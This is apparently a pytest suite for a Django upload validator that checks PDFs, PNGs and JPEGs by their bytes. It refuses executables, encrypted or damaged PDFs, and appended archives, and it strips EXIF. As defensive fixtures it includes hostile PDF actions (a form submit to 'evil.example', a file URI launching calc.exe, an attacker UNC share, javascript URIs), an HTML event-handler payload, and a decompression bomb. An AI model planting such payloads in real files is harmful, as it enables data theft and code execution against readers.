"""Uploads are judged by their bytes, never by their names: type, size, PDF content, images."""

from __future__ import annotations

import hashlib
import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from PIL import Image
from pypdf import PdfReader
from pypdf.generic import IndirectObject

from jembatan.core import pdf_safety
from jembatan.core.tests import upload_samples as samples
from jembatan.core.uploads import (
    ACCEPTED_TYPES,
    JPEG,
    PDF,
    PNG,
    inspect_upload,
    name_for_type,
    replace_content,
)

LIMIT = 5 * 1024 * 1024
WINDOWS_EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 400 + b"PE\x00\x00"


def _inspect(content: bytes, accepted: tuple[str, ...] = ACCEPTED_TYPES, limit: int = LIMIT):
    return inspect_upload([content], limit=limit, accepted=accepted, document="Ijazah")


def _refusal(content: bytes, **kwargs) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        _inspect(content, **kwargs)
    return caught.value


def _opened(content: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(content))
    image.load()
    return image


# --- the hostile samples of issue 14, and the good ones ----------------------------------


@pytest.mark.parametrize("sample", samples.HOSTILE, ids=lambda s: s.name)
def test_every_hostile_sample_is_refused_with_its_code(sample: samples.Sample) -> None:
    assert _refusal(sample.make()).code == sample.code


@pytest.mark.parametrize("sample", samples.GOOD, ids=lambda s: s.name)
def test_every_good_sample_is_accepted(sample: samples.Sample) -> None:
    found = _inspect(sample.make())
    assert found.content_type in ACCEPTED_TYPES
    assert (found.size, found.sha256) == (
        len(found.content),
        hashlib.sha256(found.content).hexdigest(),
    )


GOOD_PDFS = {
    "plain-pdf",
    "scanned-pdf",
    "pdf-with-web-link",
    "incremental-update",
    "weasyprint-pdf",
}


@pytest.mark.parametrize(
    "sample", [s for s in samples.GOOD if s.name in GOOD_PDFS], ids=lambda s: s.name
)
def test_an_accepted_pdf_is_stored_exactly_as_it_came(sample: samples.Sample) -> None:
    content = sample.make()
    assert _inspect(content).content == content


# --- type and size -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (samples.plain_pdf(), PDF),
        (samples.image_bytes("PNG"), PNG),
        (samples.image_bytes("JPEG"), JPEG),
    ],
    ids=["pdf", "png", "jpeg"],
)
def test_a_real_pdf_png_or_jpeg_is_accepted_with_its_detected_type(content, expected) -> None:
    assert _inspect(content).content_type == expected


def test_an_html_page_named_pdf_is_refused_as_a_web_page() -> None:
    error = _refusal(samples.HTML_PAGE)
    assert error.code == "type_refused"
    assert error.messages == [
        "Whatever its name says, this file is a web page (HTML). Ijazah must be a "
        "PDF, JPEG or PNG file: save or scan it in that format and upload it again."
    ]


def test_a_windows_program_named_pdf_is_refused_as_a_program() -> None:
    error = _refusal(WINDOWS_EXE)
    assert error.code == "type_refused"
    assert "a Windows program (EXE)" in error.messages[0]


def test_an_elf_executable_is_refused() -> None:
    error = _refusal(b"\x7fELF\x02\x01\x01" + b"\x00" * 200)
    assert "a program (ELF executable)" in error.messages[0]


def test_a_gif_is_refused_naming_its_real_type() -> None:
    error = _refusal(samples.image_bytes("GIF"))
    assert "this file is a GIF file" in error.messages[0]


def test_unrecognised_bytes_are_refused() -> None:
    error = _refusal(b"just some text, no document at all")
    assert "a format that is not recognised" in error.messages[0]


def test_a_jpeg_is_refused_where_only_pdf_is_accepted() -> None:
    error = _refusal(samples.image_bytes("JPEG"), accepted=(PDF,))
    assert error.code == "type_refused"
    assert "this file is a JPEG file. Ijazah must be a PDF file" in error.messages[0]


def test_what_a_file_is_for_starts_the_sentence_with_a_capital() -> None:
    with pytest.raises(ValidationError) as caught:
        inspect_upload([WINDOWS_EXE], limit=LIMIT, accepted=(PDF,), document="the attachment")
    assert "(EXE). The attachment must be a PDF file" in caught.value.messages[0]


def test_a_file_over_the_limit_is_refused_without_reading_it_all() -> None:
    chunks_read = []

    def chunks():
        for n in range(10):
            chunks_read.append(n)
            yield b"%PDF-" + b"0" * 1019

    with pytest.raises(ValidationError) as caught:
        inspect_upload(chunks(), limit=3000, accepted=ACCEPTED_TYPES, document="Ijazah")
    assert caught.value.code == "too_large"
    assert caught.value.messages == [
        "The file is larger than 0.0 MB, the limit for Ijazah. Scan it at a lower "
        "resolution or compress it, then upload it again."
    ]
    assert chunks_read == [0, 1, 2]


def test_a_file_exactly_at_the_limit_is_accepted() -> None:
    content = samples.plain_pdf()
    assert _inspect(content, limit=len(content)).size == len(content)


def test_an_empty_file_is_refused() -> None:
    assert _refusal(b"").code == "empty"


# --- PDFs ----------------------------------------------------------------------------------


def test_a_truncated_pdf_is_refused_as_damaged() -> None:
    error = _refusal(samples.plain_pdf()[:60])
    assert error.code == "damaged"
    assert error.messages == [
        "The file looks like a PDF file but is damaged or incomplete. "
        "Save or scan it again and upload the new file."
    ]


def test_a_pdf_without_pages_is_refused_as_damaged() -> None:
    content = samples.build_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages >>"])
    assert _refusal(content).code == "damaged"


def test_the_refusal_names_everything_active_the_pdf_holds() -> None:
    error = _refusal(samples.action_in_object_stream_pdf())
    assert error.messages == [
        "This PDF contains actions that run by themselves and scripts (JavaScript), which "
        "a document here may not contain. Print it to a new PDF or scan the paper, then "
        "upload that file."
    ]


def test_an_encrypted_pdf_is_refused_saying_what_to_do() -> None:
    error = _refusal(samples.encrypted_pdf())
    assert error.messages == [
        "This PDF is encrypted or protected by a password, so its content cannot be checked. "
        "Save it again as a plain PDF without protection (or scan the paper again), then "
        "upload the new file."
    ]


def test_a_pdf_with_a_web_page_after_it_is_refused_saying_what_to_do() -> None:
    error = _refusal(samples.pdf_with_html_after_end())
    assert error.messages == [
        "This PDF file carries something else besides the PDF: data after its end or a web "
        "page hidden inside. Save or scan it again as a plain PDF file and upload the new file."
    ]


def _with_link(action: bytes) -> bytes:
    objects = samples.page_objects(page=b"/Annots [5 0 R] ")
    objects.append(samples.link_annotation(action))
    return samples.build_pdf(objects)


@pytest.mark.parametrize(
    "action",
    [
        b"<< /S /SubmitForm /F (https://evil.example/collect) >>",
        b"<< /S /ImportData /F (data.fdf) >>",
        b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>",
        b"<< /S /GoToE /T << /R /C /N (a) >> >>",
        b"<< /S /Rendition /R 6 0 R >>",
        b"<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>",
        b"<< /S /URI /URI (\\\\\\\\attacker\\\\share\\\\x) >>",
        b"<< /S /URI /URI ( java\\tscript:alert\\(1\\)) >>",
        b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >> >>",
        b"<< /S 6 0 R >>",
    ],
    ids=[
        "submit-form",
        "import-data",
        "remote-goto",
        "embedded-goto",
        "rendition",
        "file-uri",
        "unc-path",
        "javascript-uri-with-tab",
        "script-chained-after-goto",
        "action-type-by-reference",
    ],
)
def test_an_action_that_leaves_the_page_is_refused(action: bytes) -> None:
    objects = samples.page_objects(page=b"/Annots [5 0 R] ")
    objects.append(samples.link_annotation(action))
    objects.append(b"/Launch")
    assert _refusal(samples.build_pdf(objects)).code == "active_content"


@pytest.mark.parametrize(
    "catalog",
    [
        b"/AcroForm << /Fields [] /XFA 5 0 R >> ",
        b"/AA << /WC << /S /GoTo /D [3 0 R /Fit] >> >> ",
        b"/OpenAction << /S /Named /N /Print >> ",
        b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >> ",
    ],
    ids=["xfa-form", "event-action", "print-on-open", "document-script"],
)
def test_what_the_catalog_runs_by_itself_is_refused(catalog: bytes) -> None:
    objects = samples.page_objects(catalog=catalog)
    objects.append(b"<< /Length 0 >>\nstream\n\nendstream")
    assert _refusal(samples.build_pdf(objects)).code == "active_content"


@pytest.mark.parametrize(
    "catalog",
    [b"/OpenAction [3 0 R /Fit] ", b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >> ", b"/AA << >> "],
    ids=["open-at-page", "goto-on-open", "empty-event-actions"],
)
def test_opening_at_a_page_is_harmless_and_accepted(catalog: bytes) -> None:
    assert _inspect(samples.build_pdf(samples.page_objects(catalog=catalog))).content_type == PDF


@pytest.mark.parametrize(
    "uri", [b"https://jembatan.example", b"HTTP://jembatan.example", b"mailto:lpk@example.id"]
)
def test_web_and_mail_links_are_accepted(uri: bytes) -> None:
    content = _with_link(b"<< /S /URI /URI (" + uri + b") >>")
    assert _inspect(content).content == content


def test_a_rich_media_annotation_is_refused() -> None:
    objects = samples.page_objects(page=b"/Annots [5 0 R] ")
    objects.append(b"<< /Type /Annot /Subtype /RichM#65dia /Rect [0 0 1 1] >>")
    assert _refusal(samples.build_pdf(objects)).code == "active_content"


def test_data_between_an_end_marker_and_the_next_update_is_refused() -> None:
    first, _, rest = samples.incrementally_updated_pdf().partition(b"%%EOF")
    content = first + b"%%EOFPK\x03\x04 a zip archive hid here\n" + rest
    assert _refusal(content).code == "hidden_content"


def test_an_incremental_update_after_the_end_marker_is_accepted() -> None:
    content = samples.incrementally_updated_pdf()
    assert content.count(b"%%EOF") == 2
    assert _inspect(content).content == content


def test_trailing_blank_lines_after_the_end_are_accepted() -> None:
    content = samples.plain_pdf() + b"\r\n\x00\x00 \n"
    assert _inspect(content).content == content


def test_an_html_tag_with_an_event_handler_is_found_anywhere_in_a_pdf() -> None:
    comment = b'%<details open ontoggle="alert(1)">\n'
    assert _refusal(samples.build_pdf(samples.page_objects(), prologue=comment)).code == (
        "hidden_content"
    )


def test_a_pdf_with_a_thousand_objects_outside_its_table_is_refused_as_damaged() -> None:
    junk = b"".join(b"%d 0 obj\n<< >>\nendobj\n" % n for n in range(100, 1_200))
    assert _refusal(samples.build_pdf(samples.page_objects(), unlisted=junk)).code == "damaged"


def test_a_pdf_nested_deeper_than_the_parser_goes_is_refused_as_damaged() -> None:
    objects = samples.page_objects(page=b"/Deep 5 0 R ")
    objects.append(b"[" * 5000 + b"]" * 5000)
    assert _refusal(samples.build_pdf(objects)).code == "damaged"


def test_the_reader_resolves_only_objects_the_cross_reference_lists() -> None:
    """pypdf alone searches the whole file for an unlisted object, once per reference."""
    hidden = b"9 0 obj\n(hidden)\nendobj\n"
    content = io.BytesIO(samples.build_pdf(samples.page_objects(), unlisted=hidden))
    assert PdfReader(content).get_object(9) == "hidden"
    listed_only = pdf_safety._ListedOnlyReader(content)
    assert listed_only.get_object(9) is None
    assert listed_only.get_object(IndirectObject(3, 0, listed_only))["/Type"] == "/Page"


# --- images --------------------------------------------------------------------------------


def test_a_png_is_stored_with_exactly_its_pixels() -> None:
    content = samples.image_bytes("PNG")
    stored = _inspect(content).content
    assert _opened(stored).tobytes() == _opened(content).tobytes()


def test_a_jpeg_is_stored_as_a_jpeg_of_the_same_picture() -> None:
    stored = _opened(_inspect(samples.image_bytes("JPEG")).content)
    assert (stored.format, stored.size) == ("JPEG", (40, 30))
    red = stored.getpixel((20, 25))
    assert isinstance(red, tuple) and red[0] > 180 and red[1] < 60 and red[2] < 60


def test_a_phone_photo_is_stored_upright_and_without_its_exif() -> None:
    content = samples.rotated_jpeg_with_gps()
    assert _opened(content).getexif().get(0x0112) == 6
    stored = _opened(_inspect(content).content)
    assert stored.size == (30, 40)  # turned as the orientation said
    assert dict(stored.getexif()) == {}
    assert b"Exif" not in _inspect(content).content
    # The dark stripe that was at the top of the sideways picture is now at the right.
    assert sum(stored.getpixel((28, 20))) < 100 and sum(stored.getpixel((2, 20))) > 200


def test_a_pngs_text_chunks_are_left_behind() -> None:
    content = samples.png_with_text()
    assert b"Kendal" in content
    assert b"Kendal" not in _inspect(content).content


def test_a_jpeg_followed_by_a_second_picture_is_stored_as_the_first_alone() -> None:
    content = samples.jpeg_with_second_picture()
    stored = _inspect(content).content
    assert stored.count(b"\xff\xd8\xff") == 1
    assert _opened(stored).size == (40, 30)


def test_a_jpeg_followed_by_a_motion_photo_video_is_accepted() -> None:
    video = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00" * 64
    stored = _inspect(samples.image_bytes("JPEG") + video).content
    assert b"ftyp" not in stored


def test_a_png_with_a_zip_archive_appended_is_refused() -> None:
    content = samples.image_bytes("PNG") + b"PK\x03\x04" + b"\x00" * 40
    assert _refusal(content).code == "hidden_content"


def test_a_png_signature_followed_by_garbage_is_refused_as_damaged() -> None:
    content = samples.image_bytes("PNG")[:16] + b"\x00garbage" * 20
    assert _refusal(content).code == "damaged"


def test_a_truncated_jpeg_is_refused_as_damaged() -> None:
    content = samples.image_bytes("JPEG", size=(64, 64))
    assert _refusal(content[: len(content) // 2]).code == "damaged"


def test_a_decompression_bomb_is_refused_saying_what_to_do() -> None:
    content = samples.decompression_bomb_png()
    assert len(content) < 100_000
    assert _refusal(content).messages == [
        "This image has more than 89 million pixels, far more than a page needs. Scan or "
        "photograph it at a lower resolution (300 dpi is enough) and upload it again."
    ]


def test_an_image_with_an_absurd_side_is_refused_naming_its_size() -> None:
    assert _refusal(samples.absurd_png()).messages == [
        "This image is 30000 × 1 pixels; no side of a page scan is longer than 20000 pixels. "
        "Scan or photograph the document again and upload the new file."
    ]


def test_a_palette_png_keeps_its_transparency() -> None:
    image = Image.new("P", (4, 4), 0)
    image.putpalette([255, 255, 255, 200, 0, 0])
    image.putpixel((1, 1), 1)
    out = io.BytesIO()
    image.save(out, format="PNG", transparency=0)
    stored = _opened(_inspect(out.getvalue()).content)
    assert (stored.mode, stored.info.get("transparency")) == ("P", 0)


def test_a_cmyk_jpeg_is_stored_as_rgb() -> None:
    out = io.BytesIO()
    Image.new("CMYK", (8, 8), (0, 255, 255, 0)).save(out, format="JPEG")
    assert _opened(_inspect(out.getvalue()).content).mode == "RGB"


# --- names -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "mime", "offered"),
    [
        ("ijazah.html", PDF, "ijazah.pdf"),
        ("ijazah.html", PNG, "ijazah.png"),
        ("ijazah.pdf.html", PDF, "ijazah.pdf"),
        ("ijazah", PDF, "ijazah.pdf"),
        ("KTP Siti.PDF", PDF, "KTP Siti.PDF"),
        ("foto.jpeg", JPEG, "foto.jpeg"),
        ("foto.png", JPEG, "foto.jpg"),
        ("scan 12.05.2024", PDF, "scan 12.05.2024.pdf"),
        (".html", PDF, "document.pdf"),
        ("a" * 255, PDF, "a" * 251 + ".pdf"),
    ],
)
def test_the_name_a_file_is_offered_under_follows_what_it_is(name, mime, offered) -> None:
    assert name_for_type(name, mime) == offered


# --- writing a re-encoded image back into an upload --------------------------------------


def test_replacing_the_content_of_a_small_upload() -> None:
    upload = SimpleUploadedFile("a.png", b"old bytes, longer than the new ones")
    replace_content(upload, b"new")
    assert (upload.read(), upload.size) == (b"new", 3)


def test_replacing_the_content_of_a_large_upload_changes_the_file_django_moves() -> None:
    upload = TemporaryUploadedFile("a.png", "image/png", 0, None)
    upload.write(b"old bytes, longer than the new ones")
    upload.seek(0)
    replace_content(upload, b"new")
    with open(upload.temporary_file_path(), "rb") as moved:
        assert moved.read() == b"new"
    assert upload.size == 3
    upload.close()
